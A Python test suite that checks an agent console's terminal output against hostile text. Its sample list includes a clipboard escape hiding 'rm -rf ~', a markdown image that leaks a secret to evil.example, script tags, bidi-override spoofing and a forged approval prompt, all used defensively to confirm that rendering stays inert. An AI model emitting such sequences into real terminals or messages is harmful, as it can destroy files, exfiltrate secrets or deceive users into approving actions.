"""Text from the phone, a plugin, a model or a file cannot steer the terminal, nor hide in what is shown."""

import io
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ainos.agent.approval import ApprovalRequest
from ainos.agent.events import Event
from ainos.console.cli import _say
from ainos.console.person import TerminalPerson
from ainos.console.trace import PlainTrace, inert

HOSTILE = (
    "\x1b[2J\x1b[H wiped", "\x1b]52;c;cm0gLXJmIH4=\x07 clipboard", "\x1b]0;title\x07", "\x9b31m eight bit",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1bP+q544e\x1b\\", "\x07\x07\x07",
    "Yes\rNo ", "a\x08\x08b",
    "pay 1\u202e000,1\u202c to me", "\u2066inside\u2069 \u200e\u200f", "zero\u200bwidth\ufeff",
    "\u2028line\u2029", "\x00nul",
    "tag\U000e0041\U000e0042", "fill\u3164\u115fer\u2800", "z\u0335\u0321\u0322\u0327\u0328\u0334\u0335\u0336algo",
    "\ud800 lone", "\x85next", "\x7fdel", "private\ue000", "[bold red]no markup[/]", "<script>alert(1)</script>",
    "![x](http://evil.example/p.png?q=secret)", "line one\nDo it? [y/N] y", "\x1b[6n", "\x1bc", "\x1b[?1049h",
)  # fmt: skip
RECEIPT = {
    "steps_by_tier": {"cloud": 1}, "usd": 0.0, "ms_by_phase": {"decide": 1500.0}, "cloud_requests": 1,
    "bytes_to_cloud": 10, "highest_label_sent": "personal",
}  # fmt: skip


def is_harmless(text):
    """Whether a terminal shows all of it and obeys none of it."""
    return not [
        c for c in text.replace("\n", "") if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
    ]


def events(text):
    """Return an event of each type with the text wherever foreign text may stand."""
    row = {"id": "m1", "text": text, "source": f"sms:{text}", "score": 0.5, "what": text}
    return (
        ("run", {"goal": text, "device": text, "profile": "balanced"}), ("plan", {"subgoals": [text, text]}),
        ("recall", {"rows": [row], "failed": text, "held_back": 2}), ("used", {"rows": [row]}),
        ("route", {"verdict": "confirm", "reason": text, "model": text, "rule": text}),
        ("route", {"verdict": "deny", "reason": text, "model": text, "rule": text}),
        ("route", {"reason": text, "model": text, "tier": "device", "failed": text, "options": [
            {"tier": "cloud", "model": text, "usd": 0.1, "seconds": 1.0, "barred": text}]}),
        ("decision", {"tool": text, "arguments": {text: text}, "tier": "cloud", "model": text, "ms": 1.0,
                      "confidence": 1.0}),
        ("approval", {"verdict": "asked", "reason": text, "asked": {"title": text, "values": {text: text}}}),
        ("approval", {"verdict": "deny", "reason": text}), ("question", {"question": text, "choices": [text]}),
        ("answer", {"answer": text}), ("interruption", {"title": text, "kind": "anr", "done": text}),
        ("result", {"text": text, "way": text}), ("verify", {"holds": False, "found": text}),
        ("reflection", {"text": text}), ("decision", {"tool": None, "arguments": {}, "tier": text, "model": text,
                                                     "ms": 1.0, "confidence": 1.0}),
        ("end", {"status": "failed", "verified": False, "answer": text, "hint": text, "steps": 1, "receipt": {
            **RECEIPT, "models": {text: 1}, "effects": [{"effect": text, "verified": True, "tool": "t"}],
            "remembered": [row]}}),
    )  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("replay", [False, True])
def test_no_event_of_a_run_lets_foreign_text_reach_the_terminal_raw(text, replay):
    out = io.StringIO()
    trace = PlainTrace(out, color=False, replay=replay)
    for type_, facts in events(text):
        trace(Event(type_, 0.0, "r1", 1, facts))
    trace.close()
    assert is_harmless(out.getvalue())


@pytest.mark.parametrize("text", HOSTILE)
def test_neither_does_a_question_and_what_is_asked_stays_on_its_own_line(text, capsys):
    asked = []
    person = TerminalPerson(lambda prompt: asked.append(prompt) or "n")
    request = ApprovalRequest(f"Send {text}", {"text": text, "to": text}, text, "digest")
    assert person.approve(request) is False
    person.ask(text, (text, "other"))
    shown = capsys.readouterr().out
    assert is_harmless(shown)
    assert "".join(asked).count("[y/N]") == 1
    assert not any(line.startswith("Do it?") for line in shown.splitlines())


@pytest.mark.parametrize("text", HOSTILE)
def test_nor_does_an_error_that_names_it(text, capsys):
    assert _say(f"there is no contact “{text}”", f'ainos do "{text}"', 1) == 1
    assert is_harmless(capsys.readouterr().err)


def test_what_people_write_is_left_as_it_is():
    for text in ("Grüße, 你好, مرحبا, नमस्ते", "👩‍👩‍👧 👍🏽 ❤️", "naïve café — “quoted” … 50 €"):
        assert inert(text) == text


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_one_harmless_line(text):
    shown = inert(text)
    joiners = str.maketrans("", "", "\u200c\u200d")
    assert is_harmless(shown.translate(joiners))
    assert len(shown.splitlines()) <= 1
